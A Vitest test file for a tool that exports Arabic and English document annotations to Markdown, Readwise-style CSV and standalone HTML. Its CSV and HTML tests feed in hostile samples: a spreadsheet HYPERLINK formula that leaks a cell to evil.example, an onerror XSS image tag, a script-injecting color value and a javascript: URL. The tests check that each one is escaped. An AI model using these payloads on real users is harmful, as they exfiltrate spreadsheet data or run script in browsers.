import { describe, expect, it } from 'vitest';
import { BOM, csvCell, readwiseDate } from '../../../src/export/csv-format';
import { buildCsv, readwiseNote } from '../../../src/export/export-csv';
import { escapeHtml } from '../../../src/export/escape-html';
import { escapeMarkdownLine, markdownParagraphs } from '../../../src/export/escape-markdown';
import { buildHtml } from '../../../src/export/export-html';
import { buildMarkdown } from '../../../src/export/export-markdown';
import { exportFileName, exportMimeType } from '../../../src/export/export-filename';
import { shortIds } from '../../../src/export/short-ids';
import { obsidianTag, readwiseTag } from '../../../src/export/tag-format';
import { noteLanguage, textDirection } from '../../../src/export/text-direction';
import { csvCellCases, directionCases, markdownLineCases, tagCases } from './export-cases';
import { dataset, doc, goldenOptions, NOW } from './export-dataset';

describe('Markdown escaping', () => {
  it.each(markdownLineCases)('%j → %j', (input, expected) => {
    expect(escapeMarkdownLine(input)).toBe(expected);
  });

  it('keeps the author’s line breaks as hard breaks and blank lines as paragraphs', () => {
    expect(markdownParagraphs('a\nb\r\n\r\nc\n\n\n')).toEqual(['a\\\nb', 'c']);
    expect(markdownParagraphs('  \n \n')).toEqual([]);
  });
});

describe('buildMarkdown', () => {
  const md = buildMarkdown(dataset, doc, goldenOptions);
  const lines = md.split('\n');

  it('opens with YAML front matter holding title, source, date, url and export time', () => {
    expect(lines.slice(0, 7)).toEqual([
      '---',
      `title: ${JSON.stringify(doc.meta.title)}`,
      `source: "${doc.meta.source}"`,
      'date: 2022-02-09',
      `url: "${goldenOptions.url}"`,
      `exported: ${NOW.toISOString()}`,
      '---',
    ]);
  });

  it('has exactly one heading, the headline; other lines starting with # are tag lines', () => {
    const hashLines = lines.filter((l) => l.startsWith('#'));
    expect(hashLines[0]).toBe(`# ${doc.meta.title}`);
    for (const line of hashLines.slice(1)) expect(line).toMatch(/^(#[^\s#]+ ?)+$/u);
  });

  it('lets no raw HTML through except its own rtl divs', () => {
    const tags = md.match(/(?<!\\)<[^>]*>/g) ?? [];
    expect(new Set(tags)).toEqual(new Set(['<div dir="rtl" lang="ar">', '</div>']));
  });

  it('leaves no unescaped link, image or wikilink bracket', () => {
    expect(md).not.toMatch(/(?<!\\)\[/);
  });

  it('surrounds every div tag with blank lines so Markdown inside still renders', () => {
    lines.forEach((line, i) => {
      if (line.startsWith('<div') || line === '</div>') {
        expect([lines[i - 1], lines[i + 1]]).toEqual(['', '']);
      }
    });
  });

  it('gives each annotation a unique block id and its timeline event', () => {
    const ids = lines.filter((l) => /^\^[0-9a-z]+$/.test(l));
    expect(ids).toHaveLength(6);
    expect(new Set(ids).size).toBe(6);
    expect(md).toContain('🗓 زاس يحذر من نشاط الناتو (9 فبراير 2022)');
  });

  it('writes tags the Obsidian way', () => {
    expect(md).toContain('#حلف-الناتو #security-policy');
  });

  it('exports an empty document as front matter and header only', () => {
    const empty = buildMarkdown([], doc, { now: NOW });
    expect(empty).toContain('url: ""');
    expect(empty).not.toContain('^');
  });
});

describe('CSV cells', () => {
  it.each(csvCellCases)('%j → %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('formats dates as Readwise documents them, in UTC', () => {
    expect(readwiseDate('2026-11-20T09:15:00.000Z')).toBe('2026-11-20 09:15:00');
    expect(readwiseDate('2026-11-20T12:15:00+03:00')).toBe('2026-11-20 09:15:00');
    expect(readwiseDate('not a date')).toBe('');
  });

  it('puts tags first in the note as Readwise inline tags', () => {
    expect(readwiseNote({ note: 'text', tags: ['a b', 'ج'] })).toBe('.a_b .ج\ntext');
    expect(readwiseNote({ note: '', tags: ['x'] })).toBe('.x');
    expect(readwiseNote({ note: 'only', tags: [] })).toBe('only');
  });
});

describe('buildCsv', () => {
  const csv = buildCsv(dataset, doc, goldenOptions);

  it('starts with a BOM and the Readwise header, and ends every row with CRLF', () => {
    expect(csv.startsWith(`${BOM}Highlight,Title,Author,URL,Note,Location,Date\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('neutralises the quote that starts with a minus and the formula note', () => {
    expect(csv).toContain(`'- النشاط العسكري آخذ في الازدياد`);
    // With tags, the cell starts with the tag line, so the formula is not at the cell's start.
    expect(csv).toContain(
      '".1984 .mention\n=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"',
    );
    const bare = { ...dataset[4]!, tags: [] };
    expect(buildCsv([bare], doc, {})).toContain(`,"'=HYPERLINK(""http://evil.example/`);
  });

  it('writes the position start as Location, and nothing when there is no position', () => {
    const start = doc.text.indexOf('تكثيف النشاط العسكري لحلف الناتو');
    expect(csv).toContain(`,${start},2026-11-20 09:00:00\r\n`);
    expect(csv).toContain(',,,2026-11-20 10:05:00\r\n');
  });
});

describe('buildHtml', () => {
  const html = buildHtml(dataset, doc, goldenOptions);

  it('is a standalone right-to-left UTF-8 page with inline style and no script', () => {
    expect(html).toMatch(/^<!doctype html>\n<html lang="ar" dir="rtl">/);
    expect(html).toContain('<meta charset="utf-8">');
    expect(html).toContain('<style>');
    expect(html).not.toMatch(/<script|<link/i);
  });

  it('shows markup in notes as text', () => {
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).not.toContain('<img');
  });

  it('marks Arabic notes rtl/ar and English ones auto/en', () => {
    expect(html).toContain('<p class="note" dir="rtl" lang="ar">الفكرة الرئيسية');
    expect(html).toContain('<p class="note" dir="auto" lang="en">Zas claims');
  });

  it('uses logical CSS properties only', () => {
    expect(html).not.toMatch(/(margin|padding|border)-(left|right)|text-align:\s*(left|right)/);
  });

  it('never trusts an unknown color from stored data', () => {
    const hostile = { ...dataset[0]!, color: '"><script>' as never };
    const out = buildHtml([hostile], doc, goldenOptions);
    expect(out).not.toContain('<script');
    expect(out).toContain('data-color="yellow"');
  });

  it('links only http(s) urls', () => {
    const out = buildHtml([], doc, { now: NOW, url: 'javascript:alert(1)' });
    expect(out).not.toContain('href=');
  });

  it('escapes every HTML-active character', () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
      '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;',
    );
  });
});

describe('small helpers', () => {
  it.each(tagCases)('tag %j → %j / %j', (tag, obsidian, readwise) => {
    expect(obsidianTag(tag)).toBe(obsidian);
    expect(readwiseTag(tag)).toBe(readwise);
  });

  it.each(directionCases)('%j reads %s, language %s', (text, dir, lang) => {
    expect(textDirection(text)).toBe(dir);
    expect(noteLanguage(text)).toBe(lang);
  });

  it('lengthens short ids only when two would collide', () => {
    const ids = shortIds(['abcdef01-1111-4000-8000-000000000000', 'abcdef01-2222-4000-8000-0']);
    expect([...ids.values()]).toEqual(['abcdef011', 'abcdef012']);
    expect(shortIds(['12345678-aaaa']).get('12345678-aaaa')).toBe('12345678');
  });

  it('names export files by short name and local export date, ASCII only', () => {
    const now = new Date(2026, 10, 29, 23, 59);
    expect(exportFileName(doc, 'markdown', now)).toBe('csto-zas-2022-02-09-notes-2026-11-29.md');
    expect(exportFileName(doc, 'jsonld', now)).toBe('csto-zas-2022-02-09-notes-2026-11-29.json');
    expect(exportFileName(doc, 'csv', now)).toMatch(/\.csv$/);
    expect(exportFileName(doc, 'html', now)).toMatch(/\.html$/);
    const odd = { ...doc, meta: { ...doc.meta, shortName: 'Zas «قول» 2022!!' } };
    expect(exportFileName(odd, 'csv', now)).toBe('zas-2022-notes-2026-11-29.csv');
    expect(exportMimeType('jsonld')).toBe('application/ld+json;charset=utf-8');
  });
});
